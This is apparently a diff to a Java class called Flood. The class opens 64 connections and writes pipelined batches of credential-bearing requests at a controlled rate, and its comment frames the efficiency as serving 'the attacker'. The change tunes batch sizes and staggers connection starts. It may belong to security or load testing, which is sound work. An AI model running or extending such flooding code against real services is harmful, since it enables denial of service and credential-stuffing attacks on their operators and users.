@@ -21,8 +21,8 @@ import java.util.stream.Stream;
 /// RFC 9112, section 9.3.2), so that the attacker needs little of the machine.
 final class Flood implements AutoCloseable {
     private static final int CONNECTIONS = 64;
-    private static final int BATCH = 10;
-    private static final int DIFFERENT = 2_000;
+    private static final int BATCH = 20;
+    private static final int DIFFERENT = 1_000;
 
     private final URI service;
     private final List<byte[]> batches;
@@ -38,7 +38,8 @@ final class Flood implements AutoCloseable {
         batches = Stream.generate(() -> batch(credentials)).limit(DIFFERENT).toList();
         pause = Duration.ofSeconds(1).toNanos() * CONNECTIONS * BATCH / perSecond;
         for (int i = 0; i < CONNECTIONS; i++) {
-            threads.execute(this::send);
+            var first = System.nanoTime() + pause * i / CONNECTIONS; // not all at the same time
+            threads.execute(() -> send(first));
         }
     }
 
@@ -47,13 +48,13 @@ final class Flood implements AutoCloseable {
         return sent.get();
     }
 
-    private void send() {
+    private void send(long first) {
         while (!ended) {
             try (var socket = new Socket(service.getHost(), service.getPort())) {
                 sockets.add(socket);
                 threads.execute(() -> discard(socket));
                 var out = socket.getOutputStream();
-                for (var due = System.nanoTime(); !ended; due += pause) {
+                for (var due = Math.max(first, System.nanoTime()); !ended; due += pause) {
                     NANOSECONDS.sleep(due - System.nanoTime());
                     out.write(batches.get((int) (sent.getAndAdd(BATCH) / BATCH % DIFFERENT)));
                 }
